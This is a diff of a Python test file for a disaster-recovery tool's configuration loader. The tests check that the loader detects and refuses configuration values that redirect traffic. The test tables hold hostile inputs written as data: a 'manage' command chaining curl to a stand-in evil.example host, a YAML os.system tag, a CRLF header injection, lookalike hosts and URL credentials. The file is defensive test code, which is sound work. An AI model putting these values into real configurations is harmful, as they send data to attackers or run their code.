@@ -13,48 +13,76 @@ from uscdr.models.destination import destinations
 from uscdr.scenarios.model import Config
 from uscdr.targets import load_config, packaged
 
+SMALL = """\
+version: 1
+objectives: {rpo: 4h, rto: 2h}
+app: {name: usc-pis, manage: python manage.py}
+targets:
+  production:
+    heroku: {app: usc-pis}
+    cloudinary: {cloud: usc-pis}
+    dns: {adapter: manual, zone: usc-pis.example}
+recovery: {app: usc-pis-recovery}
+invariants: [{name: rows, sql: SELECT 1, minimum: 1}]
+checks:
+  page: {kind: http, path: /}
+  mail-account: {kind: mail}
+  certificate: {kind: tls}
+checklists:
+  db: {title: All, items: [{item: all, checks: [page, mail-account, certificate]}]}
+scenarios:
+  dns:
+    title: Domain
+    budget: {assess: 10m, recover: 60m}
+    steps: [{use: dns.rollback}]
+"""
 EVIL = "http://127.0.0.1:9"
-HEROKU = "heroku: {app: usc-pis"
+HEROKU, MEDIA, MANUAL = "heroku: {app: usc-pis", "{cloud: usc-pis", "dns: {adapter: manual"
 T = "targets.production."
 
+
+def beside(line: str) -> tuple[str, str]:
+    """A further line of the target."""
+    return MANUAL, f"{line}\n    {MANUAL}"
+
+
 WAYS: dict[str, tuple[str, str, str]] = {
-    "another host": (HEROKU + "}", HEROKU + ", api_url: https://evil.example}", T + "heroku.api_url"),
-    "a host that looks alike": (HEROKU + "}", HEROKU + ", api_url: https://api.heroku.com.evil}", T + "heroku.api_url"),
-    "another port": (HEROKU + "}", HEROKU + ", api_url: https://api.heroku.com:444}", T + "heroku.api_url"),
-    "plain http": (HEROKU + "}", HEROKU + ", api_url: http://api.heroku.com}", T + "heroku.api_url"),
-    "this machine": (HEROKU + "}", HEROKU + f", api_url: {EVIL}" + "}", T + "heroku.api_url"),
-    "this machine, IPv6": (HEROKU + "}", HEROKU + ', api_url: "http://[::1]:9"}', T + "heroku.api_url"),
-    "the data API": (HEROKU + "}", HEROKU + f", data_url: {EVIL}" + "}", T + "heroku.data_url"),
-    "a status page": (HEROKU + "}", HEROKU + f", status_url: {EVIL}" + "}", T + "heroku.status_url"),
-    "an authority": ("dns: {adapter: manual", "ca_file: ./evil.pem\n    dns: {adapter: manual", T + "ca_file"),
-    "the website": ("dns: {adapter: manual", f"web: {EVIL}\n    dns: {{adapter: manual", T + "web"),
-    "the mail account": ("dns: {adapter: manual", f"mail: {{token_url: {EVIL}}}\n    dns: {{adapter: manual", T + "mail.token_url"),
-    "the certificates": ("dns: {adapter: manual", 'tls_server: "127.0.0.1:9"\n    dns: {adapter: manual', T + "tls_server"),
-    "the media API": ("{cloud: usc-pis}", f"{{cloud: usc-pis, api_url: {EVIL}}}", T + "cloudinary.api_url"),
-    "the media's delivery": ("{cloud: usc-pis}", f"{{cloud: usc-pis, delivery_url: {EVIL}}}", T + "cloudinary.delivery_url"),
-    "the DNS API": ("dns: {adapter: manual,", f"dns: {{adapter: cloudflare, api_url: {EVIL},", T + "dns.api_url"),
-    "the DNS primary": ("dns: {adapter: manual,", "dns: {adapter: rfc2136, server: 127.0.0.1, key_name: k,", T + "dns.server"),
-    "name servers": ("dns: {adapter: manual,", 'dns: {adapter: manual, name_servers: ["127.0.0.1:9"],', T + "dns.name_servers"),
-    "the repository": ("app:\n", f"app:\n  source: {{git: {EVIL}/x.git}}\n", "app.source.git"),
-    "the repository's status page": (
-        "app:\n", f"app:\n  source: {{git: .., status_url: {EVIL}}}\n", "app.source.status_url"),
-    "a command in the dyno": (
-        "manage: python backend/manage.py", 'manage: "curl -d @- evil.example; python manage.py"', "app.manage"),
-    "the kits' bucket": ("version: 1\n", "version: 1\nkit: {to: s3://evil}\n", "kit.to"),
-    "who opens kits": ("version: 1\n", "version: 1\nkit: {recipients: [age1evil]}\n", "kit.recipients"),
-    "the copies' bucket": ("version: 1\n", "version: 1\nvault: {to: gs://evil}\n", "vault.to"),
-    "who opens copies": ("version: 1\n", "version: 1\nvault: {recipients: [ssh-ed25519 evil]}\n", "vault.recipients"),
-    "a buildpack": ("[heroku/nodejs, heroku/python]", "[https://evil.example/pack.tgz]", "recovery.buildpacks"),
-    "a buildpack of the registry": ("[heroku/nodejs, heroku/python]", "[evil/python]", "recovery.buildpacks"),
-    "somebody else's database": ("recovery:\n", "recovery:\n  addons: [evil-postgresql:free]\n", "recovery.addons"),
+    "another host": (HEROKU, f"{HEROKU}, api_url: https://evil.example", T + "heroku.api_url"),
+    "a host that looks alike": (HEROKU, f"{HEROKU}, api_url: https://api.heroku.com.evil", T + "heroku.api_url"),
+    "another port": (HEROKU, f"{HEROKU}, api_url: https://api.heroku.com:444", T + "heroku.api_url"),
+    "plain http": (HEROKU, f"{HEROKU}, api_url: http://api.heroku.com", T + "heroku.api_url"),
+    "this machine": (HEROKU, f"{HEROKU}, api_url: {EVIL}", T + "heroku.api_url"),
+    "this machine, IPv6": (HEROKU, HEROKU + ', api_url: "http://[::1]:9"', T + "heroku.api_url"),
+    "the data API": (HEROKU, f"{HEROKU}, data_url: {EVIL}", T + "heroku.data_url"),
+    "a status page": (HEROKU, f"{HEROKU}, status_url: {EVIL}", T + "heroku.status_url"),
+    "an authority": (*beside("ca_file: ./evil.pem"), T + "ca_file"),
+    "the website": (*beside(f"web: {EVIL}"), T + "web"),
+    "the mail account": (*beside(f"mail: {{token_url: {EVIL}}}"), T + "mail.token_url"),
+    "the certificates": (*beside('tls_server: "127.0.0.1:9"'), T + "tls_server"),
+    "the media API": (MEDIA, f"{MEDIA}, api_url: {EVIL}", T + "cloudinary.api_url"),
+    "the media's delivery": (MEDIA, f"{MEDIA}, delivery_url: {EVIL}", T + "cloudinary.delivery_url"),
+    "the media's status page": (MEDIA, f"{MEDIA}, status_url: {EVIL}", T + "cloudinary.status_url"),
+    "the DNS API": (MANUAL, f"dns: {{adapter: cloudflare, api_url: {EVIL}", T + "dns.api_url"),
+    "the DNS primary": (MANUAL, "dns: {adapter: rfc2136, key_name: k, server: 127.0.0.1", T + "dns.server"),
+    "name servers": (MANUAL, MANUAL + ', name_servers: ["127.0.0.1:9"]', T + "dns.name_servers"),
+    "the repository": ("app: {", f"app: {{source: {{git: {EVIL}/x.git}}, ", "app.source.git"),
+    "its status page": ("app: {", f"app: {{source: {{git: .., status_url: {EVIL}}}, ", "app.source.status_url"),
+    "a command in the dyno": ("manage: python manage.py", 'manage: "curl evil.example; x"', "app.manage"),
+    "the kits' bucket": ("recovery:", "kit: {to: s3://evil}\nrecovery:", "kit.to"),
+    "who opens kits": ("recovery:", "kit: {recipients: [age1evil]}\nrecovery:", "kit.recipients"),
+    "the copies' bucket": ("recovery:", "vault: {to: gs://evil}\nrecovery:", "vault.to"),
+    "who opens copies": ("recovery:", "vault: {recipients: [ssh-ed25519 evil]}\nrecovery:", "vault.recipients"),
+    "a buildpack": ("recovery: {", "recovery: {buildpacks: [https://evil.example/x], ", "recovery.buildpacks"),
+    "one of the registry": ("recovery: {", "recovery: {buildpacks: [evil/python], ", "recovery.buildpacks"),
+    "another's database": ("recovery: {", "recovery: {addons: [evil-postgresql:free], ", "recovery.addons"),
     "which variable goes out": (
-        "    kind: mail\n", "    kind: mail\n    client_secret: SECRET_KEY\n", "checks.mail-account.client_secret"),
-    "a certificate looked at": ("{kind: tls, days: 14}", "{kind: tls, hostnames: [evil.example]}", "checks.certificate.hostnames"),
+        "kind: mail", "kind: mail, client_secret: SECRET_KEY", "checks.mail-account.client_secret"),
+    "a certificate": ("kind: tls", "kind: tls, hostnames: [evil.example]", "checks.certificate.hostnames"),
 }  # fmt: skip
 
 
 def written(path: Path, *changes: tuple[str, str]) -> Path:
-    text = packaged().read_text()
+    text = SMALL
     for old, new in changes:
         assert old in text, old
         text = text.replace(old, new, 1)
@@ -86,7 +114,7 @@ def test_a_file_in_the_current_directory_decides_no_destination(way: str) -> Non
 def test_the_same_file_named_or_kept_by_the_user_is_taken_and_said(way: str, tmp_path: Path) -> None:
     old, new, key = WAYS[way]
     here = written(Path("scenarios.yaml"), (old, new))
-    users = written(tmp_path / "config" / "uscdr" / "scenarios.yaml", (old, new))
+    written(tmp_path / "config" / "uscdr" / "scenarios.yaml", (old, new))
     named = [load_config(here, {}), load_config(None, {"USCDR_CONFIG": str(here)})]
     here.unlink()
     for loaded in (*named, load_config(None, {})):
@@ -94,23 +122,18 @@ def test_the_same_file_named_or_kept_by_the_user_is_taken_and_said(way: str, tmp
         assert said.startswith(f"Configuration: {loaded.path.absolute()} decides where requests go: "), said
         assert key in said
         assert "\n" not in said
-    assert users.exists()
 
 
+EVIL_API = (HEROKU, f"{HEROKU}, api_url: {EVIL}")
 GOOD = (
     ("app: usc-pis}", "app: other-clinic}"),
     ("{cloud: usc-pis}", "{cloud: other-cloud}"),
     ("zone: usc-pis.example}", "zone: clinic.example, hostnames: [www.clinic.example]}"),
-    ('equals: "0"', 'equals: "1"'),
-    (
-        "contacts:\n  - {role: System Administrator}",
-        'contacts:\n  - {role: System Administrator, name: Ada, how: "+1"}',
-    ),
-    ("version: 1\n", "version: 1\nkit: {to: /mnt/safe}\nvault: {to: safe, every: 2h}\n"),
-    ("homepage:\n    kind: http\n    path: /\n", "homepage:\n    kind: http\n    path: /start/\n"),
-    ("manage: python backend/manage.py", "manage: python3 manage.py"),
-    ("app: usc-pis-recovery", "app: clinic-recovery"),
-    ("[heroku/nodejs, heroku/python]", '[heroku/python]\n  addons: ["heroku-postgresql:standard-0"]'),
+    ("minimum: 1", "minimum: 2, why: Nobody is there."),
+    ("recovery:", 'contacts: [{role: Lead, name: Ada, how: "+1"}]\nkit: {to: /mnt/safe}\nvault: {to: safe}\nrecovery:'),
+    ("path: /}", "path: /start/, auth: true}"),
+    ("manage: python manage.py", "manage: python3 backend/manage.py"),
+    ("{app: usc-pis-recovery", '{app: rescue, buildpacks: [heroku/python], addons: ["heroku-postgresql:standard-0"]'),
 )
 
 
@@ -123,30 +146,28 @@ def test_one_that_only_names_and_checks_is_taken_in_silence() -> None:
 
 
 def test_the_providers_own_addresses_may_be_written_out() -> None:
-    written(Path("scenarios.yaml"), (HEROKU + "}", HEROKU + ", api_url: https://api.heroku.com}"))
+    written(Path("scenarios.yaml"), (HEROKU, f"{HEROKU}, api_url: https://api.heroku.com"))
     assert not load_config(None, {}).decides
 
 
 def test_a_link_to_another_file_is_judged_by_where_it_lies(tmp_path: Path) -> None:
-    real = written(tmp_path / "elsewhere" / "any.yaml", (HEROKU + "}", HEROKU + f", api_url: {EVIL}" + "}"))
+    real = written(tmp_path / "elsewhere" / "any.yaml", EVIL_API)
     Path("scenarios.yaml").symlink_to(real)
     with pytest.raises(ConfigError, match=r"targets\.production\.heroku\.api_url"):
         load_config(None, {})
 
 
-def test_merged_and_repeated_parts_are_looked_through() -> None:
+def test_merged_parts_are_looked_through() -> None:
     evil = f"production: &evil\n    web: {EVIL}"
-    written(Path("scenarios.yaml"), ("production:", evil), ("contacts:\n", "  second:\n    <<: *evil\ncontacts:\n"))
+    written(Path("scenarios.yaml"), ("production:", evil), ("recovery:", "  second:\n    <<: *evil\nrecovery:"))
     with pytest.raises(ConfigError) as refused:
         load_config(None, {})
-    assert "targets.production.web" in refused.value.message
+    assert "targets.production.web (line 6)" in refused.value.message
     assert "targets.second.web" in refused.value.message
 
 
 def test_in_the_users_own_directory_the_file_is_the_users(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    users = written(
-        tmp_path / "config" / "uscdr" / "scenarios.yaml", (HEROKU + "}", HEROKU + f", api_url: {EVIL}" + "}")
-    )
+    users = written(tmp_path / "config" / "uscdr" / "scenarios.yaml", EVIL_API)
     monkeypatch.chdir(users.parent)
     assert notice(load_config(None, {}))
 
@@ -168,7 +189,7 @@ def test_what_has_the_name_and_is_no_file_is_refused(make: object, words: str) -
 
 @pytest.mark.parametrize(("mode", "of"), [(0o664, "file"), (0o646, "file"), (0o775, "directory"), (0o757, "directory")])
 def test_a_named_file_that_others_may_write_decides_nothing(mode: int, of: str, tmp_path: Path) -> None:
-    path = written(tmp_path / "named" / "own.yaml", (HEROKU + "}", HEROKU + f", api_url: {EVIL}" + "}"))
+    path = written(tmp_path / "named" / "own.yaml", EVIL_API)
     changed = path if of == "file" else path.parent
     changed.chmod(mode)
     with pytest.raises(ConfigError) as refused:
@@ -186,14 +207,14 @@ def test_others_may_write_a_named_file_that_decides_nothing(tmp_path: Path) -> N
 
 
 def test_a_directory_where_everybody_keeps_their_own_files_will_do(tmp_path: Path) -> None:
-    path = written(tmp_path / "tmp" / "own.yaml", (HEROKU + "}", HEROKU + f", api_url: {EVIL}" + "}"))
+    path = written(tmp_path / "tmp" / "own.yaml", EVIL_API)
     path.parent.chmod(0o1777)
     assert notice(load_config(path, {}))
 
 
 @pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files away")
 def test_a_named_file_of_somebody_else_decides_nothing(tmp_path: Path) -> None:
-    path = written(tmp_path / "own.yaml", (HEROKU + "}", HEROKU + f", api_url: {EVIL}" + "}"))
+    path = written(tmp_path / "own.yaml", EVIL_API)
     os.chown(path, 1234, -1)
     with pytest.raises(ConfigError, match=r"belongs to another user \(uid 1234\)"):
         load_config(path, {})
@@ -202,17 +223,17 @@ def test_a_named_file_of_somebody_else_decides_nothing(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     ("old", "new", "words"),
     [
-        (HEROKU + "}", HEROKU + ', api_url: "https://api.heroku.com@evil.example"}', "holds no user name"),
-        (HEROKU + "}", HEROKU + ', api_url: "https://user:hunter2@api.heroku.com"}', "holds no user name"),
-        (HEROKU + "}", HEROKU + ', api_url: "https://\u0430pi.heroku.com"}', "letters beyond a-z"),
-        (HEROKU + "}", HEROKU + ', api_url: "https://api.heroku.com\\r\\nHost: evil"}', "control character"),
-        (HEROKU + "}", HEROKU + ', api_url: "https://a", api_url: "https://b"}', "stands twice"),
-        (HEROKU + "}", HEROKU + ", api_url: !!python/name:os.system x}", ""),
-        ("  production:", "  sandbox:", "`sandbox` is built in"),
+        (HEROKU, HEROKU + ', api_url: "https://api.heroku.com@evil.example"', "holds no user name"),
+        (HEROKU, HEROKU + ', api_url: "https://user:hunter2@api.heroku.com"', "holds no user name"),
+        (HEROKU, HEROKU + ', api_url: "https://\u0430pi.heroku.com"', "letters beyond a-z"),
+        (HEROKU, HEROKU + r', api_url: "https://api.heroku.com\r\nHost: evil"', "control character"),
+        (HEROKU, HEROKU + ", api_url: https://a, api_url: https://b", "stands twice"),
+        (HEROKU, HEROKU + ", token_env: AWS_SECRET_ACCESS_KEY", "`token_env` is not known"),
+        ("production:", "sandbox:", "`sandbox` is built in"),
         ("zone: usc-pis.example}", "zone: 0.0.1, hostnames: [127.0.0.1]}", "is an address, no host name"),
-        ("follow: /api/", "follow: https://evil.example/api/", "another form"),
+        ("path: /}", 'path: /, auth: true, follow: "https://evil.example/{id}"}', "another form"),
+        ("path: /}", "path: https://evil.example/}", "another form"),
         ("version: 1\n", "version: 1\ninclude: /etc/evil.yaml\n", "`include` is not known"),
-        (HEROKU + "}", HEROKU + ", token_env: AWS_SECRET_ACCESS_KEY}", "`token_env` is not known"),
     ],
 )
 def test_wherever_it_lies_it_holds_no_trick(old: str, new: str, words: str, tmp_path: Path) -> None:
